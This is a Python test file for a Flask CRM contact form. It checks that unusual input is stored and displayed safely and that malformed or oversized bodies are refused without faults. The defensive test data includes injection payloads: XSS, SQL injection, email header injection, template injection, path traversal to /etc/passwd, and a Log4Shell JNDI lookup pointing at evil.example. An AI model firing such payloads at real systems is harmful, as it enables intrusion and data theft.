"""Whatever people type is stored and shown (R10); whatever machines send is refused without a fault (R27)."""

from __future__ import annotations

from flask.testing import FlaskClient

from crm.rules.intake import MESSAGE_LIMIT, NAME_LIMIT
from tests.practice import Practice
from tests.web.desk import Desk
from tests.web.door import FORM, MAYA, Visitor, inquiries, limits, people

URLENCODED, MULTIPART = "application/x-www-form-urlencoded", "multipart/form-data; boundary=edge"
ARABIC = "مرحبا، أود التحدث معك"
FAMILY = "👩‍👩‍👧‍👦"
NAMES = {
    "emoji": f"Zoë {FAMILY}",
    "right to left": "\u202eמאיה\u202c",
    "as long as it may be": "Ā" * NAME_LIMIT,
    "an apostrophe": "O'Brien-Ñúñez",
    "one letter": "X",
    "a template": "{{ 7 * 7 }}{% for x in y %}",
    "markup": "<img src=x onerror=alert(1)>",
    "a formula": "=HYPERLINK(1)",
    "SQL": "Robert'); DROP TABLE lead;--",
    "a header": "Maya\r\nBcc: everyone@example.org",
    "a hidden header": "=?utf-8?q?Maya=0ABcc:_x@example.org?=",
    "combining marks": "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢",
    "words that mean nothing here": "null",
    "only signs": "¯\\_(ツ)_/¯",
}
MESSAGES = {
    ARABIC: ARABIC,
    "å" * MESSAGE_LIMIT: "å" * MESSAGE_LIMIT,
    "a\r\nb\r\n": "a\nb",
    "": "",
    "before\x00after": "beforeafter",
    "a\x07b\x1bc\x7f": "abc",
    "../../etc/passwd": "../../etc/passwd",
    "${jndi:ldap://evil.example/a}": "${jndi:ldap://evil.example/a}",
    "</textarea><script>alert(1)</script>": "</textarea><script>alert(1)</script>",
    FAMILY: FAMILY,
}
"""What is typed, and what is kept of it."""


def test_any_name_is_stored_shown_and_answered(practice: Practice, client: FlaskClient) -> None:
    with limits(practice.app, acks_per_client_hour=100):
        for number, name in enumerate(NAMES.values()):
            Visitor(client).sends(**MAYA | {"name": name, "email": f"maya{number}@example.com"})
    practice.advance(minutes=10)

    stored = people(practice)
    assert len(stored) == len(NAMES)
    assert all(person.name for person in stored)
    assert {person.name for person in stored} >= {NAMES["emoji"], NAMES["markup"], NAMES["SQL"]}
    assert {_status(practice, client, person.id) for person in stored} == {200}
    assert {person.email for person in stored} <= {each.recipient for each in practice.outbox.received}


def test_any_message_is_stored_and_shown(practice: Practice, client: FlaskClient) -> None:
    for number, message in enumerate(MESSAGES):
        Visitor(client).sends(**MAYA | {"message": message, "email": f"maya{number}@example.com"})

    assert [inquiry.message for inquiry in inquiries(practice)] == list(MESSAGES.values())
    assert {_status(practice, client, person.id) for person in people(practice)} == {200}


def test_bytes_that_are_no_text_are_stored_as_what_can_be_read(
    practice: Practice, visitor: FlaskClient
) -> None:
    body = b"name=Ma%FFya&email=maya%40example.com&message=lone%ED%A0%80surrogate%00and%FFmore"

    answer = visitor.post(FORM, data=body, content_type=URLENCODED)

    assert answer.status_code == 303
    (inquiry,) = inquiries(practice)
    assert inquiry.message.startswith("lone")
    assert inquiry.message.endswith("more")


def test_a_message_too_long_is_told_kindly_and_kept(practice: Practice, visitor: FlaskClient) -> None:
    answer = Visitor(visitor).sends(**MAYA | {"message": "w" * (MESSAGE_LIMIT + 1)})

    assert answer.status_code == 422
    assert "The first pages are plenty." in answer.text
    assert "w" * MESSAGE_LIMIT in answer.text
    assert people(practice) == []


VALID = b"name=Maya&email=maya.o%40example.com&message=Hello"
OTHER_TYPES = [
    "application/json",
    "text/plain",
    "text/html",
    "text/xml",
    "application/xml",
    "application/octet-stream",
    "application/pdf",
    "application/x-ndjson",
    "application/javascript",
    "application/graphql",
    "application/msgpack",
    "application/x-protobuf",
    "application/cbor",
    "image/png",
    "video/mp4",
    "multipart/mixed; boundary=x",
    "multipart/form-data",
    "message/rfc822",
    "not a type",
    "",
]


def test_a_body_that_is_no_form_is_refused(practice: Practice, visitor: FlaskClient) -> None:
    answers = {kind: visitor.post(FORM, data=VALID, content_type=kind).status_code for kind in OTHER_TYPES}

    assert {kind: status for kind, status in answers.items() if not 400 <= status < 500} == {}
    assert people(practice) == []


PART = b'--edge\r\nContent-Disposition: form-data; name="%s"\r\n\r\n%s\r\n'
MALFORMED = {
    "nothing": (URLENCODED, b""),
    "only signs": (URLENCODED, b"&&&===;;;%%%"),
    "half an escape": (URLENCODED, b"name=%&email=%4"),
    "no equals": (URLENCODED, b"nameMaya"),
    "ten thousand fields": (URLENCODED, b"&".join(b"a%d=1" % n for n in range(10_000))),
    "one field ten thousand times": (URLENCODED, b"name=a&" * 10_000),
    "brackets": (URLENCODED, b"name[]=Maya&email[x]=maya@example.com"),
    "JSON": (URLENCODED, b'{"name": "Maya"}'),
    "binary": (URLENCODED, bytes(range(256))),
    "UTF-16": (URLENCODED, "name=Maya&email=maya@example.com".encode("utf-16")),
    "zeros": (URLENCODED, b"\x00" * 1000),
    "a very long name": (URLENCODED, b"name=" + b"a" * 100_000),
    "a very long address": (URLENCODED, b"name=Maya&email=" + b"a" * 50_000 + b"@example.com"),
    "a very long number": (URLENCODED, b"name=Maya&phone=" + b"1" * 50_000),
    "an address of dots": (URLENCODED, b"name=Maya&email=" + b"." * 5000 + b"@" + b"." * 5000),
    "an address of ats": (URLENCODED, b"name=Maya&email=" + b"@" * 5000),
    "a number of signs": (URLENCODED, b"name=Maya&phone=+--((()))"),
    "no name": (URLENCODED, b"email=maya@example.com"),
    "a name of blanks": (URLENCODED, b"name=%20%09%00&email=maya@example.com"),
    "no end": (MULTIPART, PART % (b"name", b"Maya")),
    "no parts": (MULTIPART, b"--edge--\r\n"),
    "another boundary": (MULTIPART, b"--other\r\n\r\n\r\n--other--"),
    "no names": (MULTIPART, b"--edge\r\n\r\nMaya\r\n--edge--\r\n"),
    "a file for a name": (
        MULTIPART,
        b'--edge\r\nContent-Disposition: form-data; name="name"; filename="x"\r\n\r\nM\r\n--edge--\r\n',
    ),
    "three hundred parts": (MULTIPART, PART % (b"x", b"y") * 300 + b"--edge--\r\n"),
    "headers without end": (MULTIPART, b"--edge\r\n" + b"X: y\r\n" * 20_000),
    "an endless header": (MULTIPART, b"--edge\r\nContent-Disposition: " + b"x" * 100_000 + b"\r\n\r\n"),
    "a boundary in the middle": (MULTIPART, b"--ed" + b"--edge" * 1000),
}


def test_a_malformed_body_is_refused_and_never_a_fault(practice: Practice, visitor: FlaskClient) -> None:
    answers = {
        name: visitor.post(FORM, data=body, content_type=kind).status_code
        for name, (kind, body) in MALFORMED.items()
    }

    assert {name: status for name, status in answers.items() if not 400 <= status < 500} == {}
    assert people(practice) == []


def test_a_length_that_cannot_be_is_refused(visitor: FlaskClient) -> None:
    statuses = {
        length: visitor.post(
            FORM, data=VALID, content_type=URLENCODED, environ_overrides={"CONTENT_LENGTH": length}
        ).status_code
        for length in ("abc", "-1", "99999999999999999999")
    }

    assert {length: status for length, status in statuses.items() if not 400 <= status < 500} == {}


def test_more_than_a_quarter_of_a_megabyte_is_too_much(visitor: FlaskClient) -> None:
    bodies = {
        URLENCODED: b"message=" + b"a" * 262_144,
        MULTIPART: PART % (b"message", b"a" * 262_144) + b"--edge--\r\n",
        "application/json": b'"' + b"a" * 262_144 + b'"',
    }

    statuses = {
        kind: visitor.post(FORM, data=body, content_type=kind).status_code for kind, body in bodies.items()
    }

    assert statuses == dict.fromkeys(bodies, 413)


def _status(practice: Practice, client: FlaskClient, person_id: int) -> int:
    return Desk(practice, client).gets(f"/people/{person_id}").status_code
